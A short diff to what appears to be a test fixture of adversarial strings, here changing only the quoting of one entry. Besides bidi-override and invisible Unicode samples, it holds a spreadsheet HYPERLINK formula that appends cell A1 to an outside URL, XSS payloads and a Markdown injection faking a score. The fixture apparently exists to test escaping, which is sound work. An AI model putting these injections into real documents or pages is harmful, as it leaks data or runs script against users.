@@ -12,7 +12,7 @@ WORDS = {
     "text that runs backwards": "\u202epassed\u202c \u2066x\u2069 \u200f\u061c",
     "characters of no width": "pass\u200bed\u2060\ufeff\u00ad\U000e0041",
     "lines that only Unicode knows": "one\u2028two\u2029three",
-    "a formula": "=HYPERLINK(\"http://example.com/\"&A1,\"passed\")",
+    "a formula": '=HYPERLINK("http://example.com/"&A1,"passed")',
     "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>",
     "Markdown": "](http://example.com) ![x](http://example.com/x.png) `` | --- | **100/100** <!--",
     "lone surrogates": "\ud800\udfff\udc80",
